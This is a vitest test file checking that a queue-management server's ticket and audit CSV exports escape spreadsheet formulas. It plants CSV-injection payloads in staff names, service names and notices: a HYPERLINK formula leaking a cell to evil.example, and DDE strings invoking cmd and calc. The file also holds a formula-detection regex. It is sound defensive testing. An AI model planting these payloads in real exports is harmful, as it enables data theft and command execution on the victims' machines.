/**
 * Formulas planted where a manager's spreadsheet will open them: a staff member named
 * `=HYPERLINK(…)`, a manager renamed `@SUM(…)`, a service renamed `-2+3`, a notice with a formula.
 * The tickets CSV and the audit CSV, parsed back, hold every one of them as text (a leading `'`),
 * and keep the numbers numbers.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { DEMO_HALL } from '../../server/config.ts';
import { ManualClock, MINUTE } from '../../server/domain/clock.ts';
import type { RunningHall } from '../../server/main.ts';
import { parseCsv } from '../helpers/csv.ts';
import { Client, hallWithCallers } from '../helpers/http.ts';

const clock = new ManualClock(Date.UTC(2026, 10, 25, 2, 0));
const range = 'from=2026-11-25&to=2026-11-25';
const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"点我 Click")';
const SUM = "@SUM(1+1)*cmd|' /C calc'!A0";
const MINUS = '-2+3+cmd|calc';

let hall: RunningHall;
let manager: Client;
let anon: Client;

/** The rows of a CSV as objects keyed by its header. */
function rowsOf(text: string): Record<string, string>[] {
  const [header, ...rows] = parseCsv(text);
  return rows.map((r) => Object.fromEntries(header!.map((h, i) => [h, r[i]!])));
}

const FORMULA_START = /^[=+\-@\t\r]/;

beforeAll(async () => {
  ({ hall, manager, anon } = await hallWithCallers({ clock }));
  // A new member of staff with a formula for a name, who serves one customer.
  const made = await manager.post('/api/v1/config/staff', {
    username: 'evil',
    name: HYPERLINK,
    role: 'staff',
  });
  expect(made.status).toBe(201);
  const evil = new Client(hall.url);
  expect((await evil.login('evil', made.json.password)).status).toBe(200);
  // A service renamed to a formula.
  const config = (await manager.get('/api/v1/config')).json;
  const services = config.services.map((s: (typeof DEMO_HALL.services)[number]) =>
    s.id === 'general' ? { ...s, name: { zh: MINUS, en: MINUS } } : s,
  );
  expect((await manager.request('PUT', '/api/v1/config/services', { body: services })).status).toBe(200);
  expect((await evil.post('/api/v1/counters/1/open')).status).toBe(200);
  const ticket = await anon.post('/api/v1/tickets', { serviceId: 'general' });
  expect(ticket.status).toBe(201);
  clock.advance(3 * MINUTE);
  expect((await evil.post('/api/v1/counters/1/call')).status).toBe(200);
  clock.advance(4 * MINUTE);
  expect((await evil.post('/api/v1/counters/1/finish', { rating: 5 })).status).toBe(200);
  // The manager renames themself and posts a notice with a formula in it.
  expect((await manager.request('PUT', '/api/v1/config/staff/manager', { body: { name: SUM } })).status).toBe(
    200,
  );
  const notice = [{ text: { zh: HYPERLINK, en: `+${HYPERLINK}` } }];
  expect((await manager.request('PUT', '/api/v1/notices', { body: notice })).status).toBe(200);
});
afterAll(() => hall.close());

describe('CSV exports never hand a spreadsheet a formula', () => {
  it('the tickets CSV: the staff and service names are text, the minutes still numbers', async () => {
    const res = await manager.get(`/api/v1/stats/tickets.csv?${range}`);
    expect(res.status).toBe(200);
    const [row] = rowsOf(res.text);
    expect(row!.staffName).toBe(`'${HYPERLINK}`);
    expect(row!.serviceName).toBe(`'${MINUS}`);
    expect(row!.waitMinutes).toBe('3.00');
    expect(row!.serviceMinutes).toBe('4.00');
    for (const cells of parseCsv(res.text)) for (const cell of cells) expect(cell).not.toMatch(FORMULA_START);
  });

  it('the audit CSV: names are text, and values stay inside their JSON', async () => {
    const res = await manager.get(`/api/v1/audit.csv?${range}`);
    expect(res.status).toBe(200);
    const rows = rowsOf(res.text);
    const noticeRow = rows.find((r) => r.action === 'notices.replace')!;
    expect(noticeRow.userName).toBe(`'${SUM}`);
    expect(JSON.parse(noticeRow.after!)).toEqual([
      expect.objectContaining({ text: { zh: HYPERLINK, en: `+${HYPERLINK}` } }),
    ]);
    // The counter actions of the staff member (open, call, finish) carry their name.
    const evilActions = rows.filter((r) => r.userId === 'evil');
    expect(evilActions.length).toBeGreaterThanOrEqual(3);
    for (const r of evilActions) expect(r.userName).toBe(`'${HYPERLINK}`);
    for (const cells of parseCsv(res.text)) for (const cell of cells) expect(cell).not.toMatch(FORMULA_START);
  });
});
